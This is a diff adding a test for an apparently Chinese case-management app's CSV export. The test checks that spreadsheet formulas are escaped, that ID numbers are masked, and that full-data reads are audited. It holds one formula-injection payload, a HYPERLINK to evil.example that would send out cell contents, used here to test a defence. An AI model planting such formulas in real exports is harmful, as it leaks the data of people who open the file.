@@ -98,6 +98,35 @@ describe('one read path for personal data', () => {
   });
 });
 
+describe('exports', () => {
+  it('a cell that a spreadsheet would run as a formula is exported as text, and ID numbers are masked unless asked for in full', async () => {
+    const evil = '=HYPERLINK("http://evil.example/?q="&A1,"查看")';
+    const c = await as['cadre.zhushan'].post('/api/cases', {
+      process: 'identification', org: 'v-zhushan', subject: { id: 'HH-0002' }, requestId: 'pd-export', title: evil, data: application('HH-0002'),
+    });
+    expect(c.status).toBeLessThan(300);
+    const res = await fetch(`${app.url}/api/cases/export.csv`, { headers: { cookie: await cookieOf('cadre.zhushan') } });
+    expect(res.status).toBe(200);
+    expect(res.headers.get('content-type')).toMatch(/text\/csv/);
+    const csv = await res.text();
+    const line = csv.split('\r\n').find((l) => l.startsWith(c.body.id))!;
+    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?q=""&A1,""查看"")"`);
+    expect(csv).not.toMatch(/(^|,)"?=/m);
+    const hh2 = household('HH-0002').headIdNumber;
+    expect(csv).not.toContain(hh2);
+    expect(csv).toContain(`${hh2.slice(0, 6)}********${hh2.slice(14)}`);
+
+    const full = await (await fetch(`${app.url}/api/cases/export.csv?unmask=1`, { headers: { cookie: await cookieOf('cadre.zhushan') } })).text();
+    expect(full).toContain(hh2);
+    expect((await audits('cadre.zhushan')).filter((a) => a.action === 'export.read-unmasked').map((a) => a.target)).toContain(c.body.id);
+    // a county department asking for it in full still gets it masked, and leaves no full-read entry
+    const dept = await (await fetch(`${app.url}/api/cases/export.csv?unmask=1`, { headers: { cookie: await cookieOf('finance') } })).text();
+    expect(dept).toContain(c.body.id);
+    expect(dept).not.toContain(hh2);
+    expect(await audits('finance')).toEqual([]);
+  });
+});
+
 async function cookieOf(username: string) {
   const res = await fetch(`${app.url}/api/auth/login`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ username, password: 'zhenxing' }) });
   return (res.headers.get('set-cookie') ?? '').split(';')[0];
